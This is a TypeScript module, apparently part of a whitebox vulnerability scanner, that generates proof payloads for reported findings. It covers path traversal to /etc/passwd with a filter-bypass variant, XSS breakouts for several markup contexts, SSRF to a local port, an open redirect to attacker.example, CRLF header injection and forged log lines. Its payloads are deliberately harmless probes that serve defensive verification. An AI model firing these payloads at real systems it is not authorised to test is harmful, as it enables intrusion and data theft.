/* Payloads for places: files, addresses, pages, headers, logs. Each reads, or aims where nothing can be written. */
import type { Finding, Input, Landing } from '#engine/findings/finding.ts';
import { changesFiles } from '#engine/report/proof/changes.ts';
import { nestingAfter, UNKNOWN } from '#engine/report/proof/landing.ts';
import { shows, TO_BE_SEEN, type Payload, type PayloadMaker } from '#engine/report/proof/payload.ts';
import { sinkHop } from '#engine/report/report-finding.ts';
import { markupContext, type MarkupContext } from '#engine/verification/value-context.ts';

const UPWARD = '../'.repeat(12);

/** Files that every user of a POSIX host may read, by how their names end. */
const READABLE: readonly (readonly [ending: string, file: string, content: string])[] = [
  ['', 'etc/passwd', 'root:x:0:0'],
  ['.conf', 'etc/nsswitch.conf', 'hosts:'],
  ['/passwd', 'etc/passwd', 'root:x:0:0'],
  ['/hostname', 'etc/hostname', ''],
];

/** Behind a known text that does not end a folder's name, the way up begins with a separator. */
function wayUp({ before }: Landing, input: Input | undefined): string {
  const last = before.slice(-1);
  // A part of the request's own path stands behind a separator already.
  const isBehindSeparator = last === '' || last === '/' || (last === UNKNOWN && input?.place === 'path');
  return isBehindSeparator ? UPWARD : `/${UPWARD}`;
}

/** A callback that is told where to store what was sent: `done(null, name)`. */
const NAMES_STORED = /^\w+\(\s*null\s*,/;

/** What takes `../` out of a text, once from left to right. */
const TAKES_OUT = /\.replace_?(?:all)?\(\s*(?:\/(?:\\\.){2}\\\/\/g|r?['"](?:\\{0,2}\.){2}\/['"])\s*,\s*(['"])\1/i;

/** Steps upwards that are left where others are taken out of them. */
function outwitting(up: string, { hops, language }: Finding): string {
  const takesOut = hops.map(({ text }) => TAKES_OUT.exec(text)?.[0] ?? '').find((text) => text !== '');
  // With a text, the method of JavaScript takes the first one alone, and eleven are left.
  const isOnce = (language === 'javascript' || language === 'typescript') && /^\.replace\(\s*['"]/.test(takesOut ?? '');
  return takesOut !== undefined && !isOnce ? up.replaceAll('../', '....//') : up;
}

export const pathPayload: PayloadMaker = ({ finding, landing = { before: '', after: '' }, isChangedBesides }) => {
  const up = outwitting(wayUp(landing, finding.input), finding);
  const { text: call } = sinkHop(finding);
  if (isChangedBesides || changesFiles(call) || NAMES_STORED.test(call)) {
    return {
      text: `${up}whitebox-no-such-folder/probe`, expected: TO_BE_SEEN,
      effect: 'The error, in the answer or in the log, speaks of `/whitebox-no-such-folder`, outside of the intended folder. The folder is not there, so nothing is written.',
    };
  }
  const known = READABLE.find(([ending]) => ending === landing.after) ?? (landing.after.includes(UNKNOWN) ? READABLE[0] : undefined);
  if (known === undefined) {
    return { missing: `What is sent is followed by \`${landing.after.slice(0, 60)}\`. To see it, send \`${up}\` and the path of a file of the host that ends so, without that ending.` };
  }
  const [ending, file, content] = known;
  return { text: `${up}${file.slice(0, file.length - ending.length)}`, effect: `The answer has the content of \`/${file}\`, which lies outside of the intended folder.`, expected: content === '' ? TO_BE_SEEN : shows(content) };
};

const SCRIPT = '<script>alert(document.domain)</script>';
/** How markup breaks out of its place. */
const BREAKOUTS: Readonly<Record<MarkupContext, (before: string) => string>> = {
  text: (before) => `${/<(title|textarea)[^>]*>[^<]*$/i.exec(before)?.[1]?.replace(/^/, '</').replace(/$/, '>') ?? ''}${SCRIPT}`,
  'quoted-attribute': (before) => `${/=\s*(["'])[^"']*$/.exec(before)?.[1] ?? '"'}>${SCRIPT}`,
  'unquoted-attribute': () => `x>${SCRIPT}`,
  tag: () => `>${SCRIPT}`,
  url: () => 'javascript:alert(document.domain)',
  script: (before) => (/<script[^>]*>[^<]*$/i.test(before) ? `</script>${SCRIPT}` : `');alert(document.domain);//`),
  style: () => `</style>${SCRIPT}`,
};

/** A call that sends a mail, by its name or that of what sends it. */
const MAILS = /mail\w*(?:\s*\.\s*\w*send\w*)?\s*\($/i;

/** A call that makes a document of a page: by its name, or that of what it is called on. */
const DRAWS = /^[^('"`]*(?:pdf\w*(?:\s*\.\s*create)?|\.setContent)\s*\(/i;
/** A call that replaces signs of markup, by its name. */
const ESCAPES = /\b(?:html_?)?esc(?:ape)?\w*\s*\(|\bencodeFor\w+\s*\(/i;

/** Within an attribute that is script, whatever quotes the script has. */
const IN_HANDLER = /\son\w+\s*=\s*(?:"[^"]*|'[^']*)$/i;

/** Signs of markup are replaced on the way, and script needs none: an attribute that is script says what it said before. */
function escapedScript(before: string): Payload {
  const script = before.replace(/^[\s\S]*(?:<script[^>]*>|\son\w+\s*=\s*["']?)/i, '');
  const { quote } = nestingAfter(script, { quotes: `'"\``, escape: '\\' });
  const text = quote === '' ? 'alert(document.domain)' : `${quote});alert(document.domain)//`;
  return { text, effect: "The page shows the alert when its script runs, as by a click: what was sent is part of that script, in the site's name.", expected: TO_BE_SEEN };
}

export const scriptPayload: PayloadMaker = ({ finding, landing }) => {
  if (finding.input?.kind.startsWith('browser-') === true) {
    return { text: '<img src=x onerror=alert(document.domain)>', effect: "The page shows the alert: what the address or message says ran in the site's name.", expected: TO_BE_SEEN };
  }
  const before = landing?.before.replaceAll(UNKNOWN, '') ?? '';
  if (DRAWS.test(sinkHop(finding).text)) return { missing: 'A browser of the server draws the markup. Send an image whose address is of a server of yours: the request for it arrives there.' };
  if ((markupContext(before) === 'script' || IN_HANDLER.test(before)) && finding.hops.some((hop) => ESCAPES.test(hop.text))) return escapedScript(before);
  const text = BREAKOUTS[markupContext(before)](before);
  if (MAILS.test(/^[^(]*\(/.exec(sinkHop(finding).text)?.[0] ?? '')) {
    return { text, effect: `The mail that is sent has \`${text}\` as it was sent: its receiver is shown markup that the sender of the request wrote.`, expected: TO_BE_SEEN };
  }
  return {
    text, otherwise: [text.replaceAll('"', "'"), `${SCRIPT.replace('document.domain', '1')}`],
    effect: `The answer has \`${text}\` as it was sent, and a browser runs it in the site's name.`, expected: shows(text),
  };
};

export const scriptAddressPayload: PayloadMaker = () => {
  const text = 'javascript:alert(document.domain)';
  return { text, effect: `The page has \`${text}\` for an address: whoever follows it sees the alert, in the site's name.`, expected: shows(text) };
};

/** A port of the server itself at which nothing listens. */
const OWN_PORT = '127.0.0.1:9';

export const requestPayload: PayloadMaker = ({ landing }) => {
  const effect = `The server itself tries to connect to \`${OWN_PORT}\`: its error, in the answer or in the log, or how fast it fails, tells that nothing listens there.`;
  const before = landing?.before ?? '';
  if (before === '' || before === UNKNOWN) return { text: `http://${OWN_PORT}/`, effect, expected: shows(OWN_PORT) };
  if (/^[a-z]+:\/\/$/i.test(before)) return { text: `${OWN_PORT}/?`, effect, expected: shows(OWN_PORT) };
  if (/^[a-z]+:\/\/[^/]+$/i.test(before)) return { text: `@${OWN_PORT}/?`, effect, expected: shows(OWN_PORT) };
  return { text: '../whitebox-probe?', effect: 'The server asks the fixed host for `whitebox-probe`, a path that the program never meant: the answer, or the log of that host, shows it.', expected: TO_BE_SEEN };
};

export const redirectPayload: PayloadMaker = ({ landing }) => {
  const before = landing?.before ?? '';
  const host = 'attacker.example';
  const text = /^[a-z]+:\/\/[^/]+$/i.test(before) ? `.${host}/` : before === '/' ? `/${host}/` : `https://${host}/`;
  return { text, effect: `The answer's \`Location\` leads the browser to \`${host}\`.`, expected: { kind: 'header-contains', name: 'Location', text: host } };
};

export const headerPayload: PayloadMaker = () => ({
  text: 'x\r\nX-Injected: yes', expected: { kind: 'header-contains', name: 'X-Injected', text: 'yes' },
  effect: 'The answer carries the header `X-Injected`; a server that refuses line breaks in headers fails instead, with an error that names the invalid character.',
});

export const logPayload: PayloadMaker = () => ({
  text: 'x\nINFO forged entry', expected: TO_BE_SEEN, effect: 'The log has a line of its own, `INFO forged entry`, that the program never wrote.',
});
